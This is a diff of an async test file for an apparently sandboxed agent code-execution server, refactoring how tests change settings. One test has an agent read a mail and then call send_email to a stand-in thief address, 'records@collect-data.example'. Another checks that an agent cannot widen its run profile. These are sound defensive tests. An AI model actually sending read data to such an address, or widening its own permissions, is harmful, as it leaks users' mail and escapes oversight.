@@ -232,7 +232,7 @@ async def test_programs_under_one_session_id_share_variables_until_their_agent_l
 
 
 async def test_an_agent_is_told_which_packages_there_are_and_can_import_them(core, agent):
-    core._set_settings(replace(core.settings, run_packages="pydantic no-such-package-here"))
+    core.services.settings.set(replace(core.settings, run_packages="pydantic no-such-package-here"))
     async with agent() as client:
         described = {tool.name: tool.description for tool in (await client.list_tools()).tools}
         ran = await client.call_tool(
@@ -248,7 +248,7 @@ async def test_an_agent_is_told_which_packages_there_are_and_can_import_them(cor
 
 async def test_an_agent_narrows_its_own_run_and_neither_widens_one_nor_writes_policy(core, agent):
     said = {"code": "result = 1", "description": "count"}
-    core._set_settings(replace(core.settings, approval_wait_seconds=0))
+    core.services.settings.set(replace(core.settings, approval_wait_seconds=0))
     async with agent() as client:
         narrow = await client.call_tool("execute_code", {**said, "profile": "read_only", "required_tools": []})
         wide = await client.call_tool("execute_code", {**said, "profile": "execute_full"})
@@ -268,8 +268,8 @@ async def test_connecting_anew_does_not_wash_off_what_was_read(core, agent):
     reads = "from servers.demo import read_mail\nresult = (await read_mail(mail_id='IN-0004'))['body']"
     thief = "records@" + "collect-data.example"
     sends = f"from servers.demo import send_email\nawait send_email(to='{thief}', subject='s', body='b')"
-    core._set_settings(replace(core.settings, approval_wait_seconds=0, approval_auto_medium=True))
-    core._set_settings(replace(core.settings, isolation_medium="process"))
+    core.services.settings.set(replace(core.settings, approval_wait_seconds=0, approval_auto_medium=True))
+    core.services.settings.set(replace(core.settings, isolation_medium="process"))
 
     async def execute(name, code):
         async with agent(name) as client:
@@ -298,7 +298,7 @@ async def test_two_agents_of_one_name_are_told_apart_everywhere_and_share_what_t
 
 
 async def test_an_agent_reads_its_figures_and_sees_the_queue(core, agent):
-    core._set_settings(replace(core.settings, run_concurrent=1))
+    core.services.settings.set(replace(core.settings, run_concurrent=1))
     heard: list[str] = []
 
     async def hear(progress, total, message):
